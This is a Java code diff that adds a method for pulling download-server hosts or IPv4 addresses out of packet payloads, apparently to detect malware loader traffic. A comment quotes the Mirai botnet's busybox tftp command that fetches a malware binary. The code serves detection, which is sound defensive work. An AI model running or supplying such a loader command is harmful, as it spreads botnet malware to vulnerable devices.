@@ -111,4 +111,71 @@ final class LoaderMarkers {
         }
         return sb.length() == 0 ? "" : sb.substring(0, sb.length() - 2);
     }
+
+    /**
+     * The server a download command in the payload names, or null: the host of a
+     * {@code http://HOST[:PORT]/...} URL (wget, curl), or the dotted IPv4 address on a line with
+     * {@code tftp} (Mirai's loader: {@code /bin/busybox tftp -g -l dvrHelper -r mirai.arm7 HOST}).
+     * At most {@code limit} bytes are read; allocates only the answer.
+     */
+    static String downloadServer(PacketView p, int limit) {
+        int n = Math.min(p.payloadLength(), limit);
+        for (int i = 0; i + 7 <= n; i++) {
+            if (p.payloadByte(i) == 'h' && matches(p, i, HTTP) && i + HTTP.length <= n) {
+                StringBuilder host = new StringBuilder();
+                for (int j = i + HTTP.length; j < n && host.length() < 253; j++) {
+                    int c = p.payloadByte(j);
+                    if (c == '/' || c == ':' || c <= ' ' || c > '~' || c == '\'' || c == '"') {
+                        break;
+                    }
+                    host.append((char) c);
+                }
+                if (host.length() > 0) {
+                    return host.toString();
+                }
+            }
+            if (p.payloadByte(i) == 't' && matches(p, i, TFTP) && i + TFTP.length <= n) {
+                String last = null;
+                int j = i + TFTP.length;
+                while (j < n && p.payloadByte(j) != '\n' && p.payloadByte(j) != '\r' && p.payloadByte(j) != ';') {
+                    int start = j;
+                    while (j < n && (Character.isDigit(p.payloadByte(j)) || p.payloadByte(j) == '.')) {
+                        j++;
+                    }
+                    if (j > start && dottedQuad(p, start, j)) {
+                        StringBuilder ip = new StringBuilder();
+                        for (int k = start; k < j; k++) {
+                            ip.append((char) p.payloadByte(k));
+                        }
+                        last = ip.toString();
+                    }
+                    j = Math.max(j, start + 1);
+                }
+                if (last != null) {
+                    return last;
+                }
+            }
+        }
+        return null;
+    }
+
+    private static final byte[] HTTP = ascii("http://");
+    private static final byte[] TFTP = ascii("tftp ");
+
+    private static boolean dottedQuad(PacketView p, int from, int to) {
+        int dots = 0;
+        int digits = 0;
+        for (int k = from; k < to; k++) {
+            if (p.payloadByte(k) == '.') {
+                if (digits == 0 || digits > 3) {
+                    return false;
+                }
+                dots++;
+                digits = 0;
+            } else {
+                digits++;
+            }
+        }
+        return dots == 3 && digits >= 1 && digits <= 3;
+    }
 }
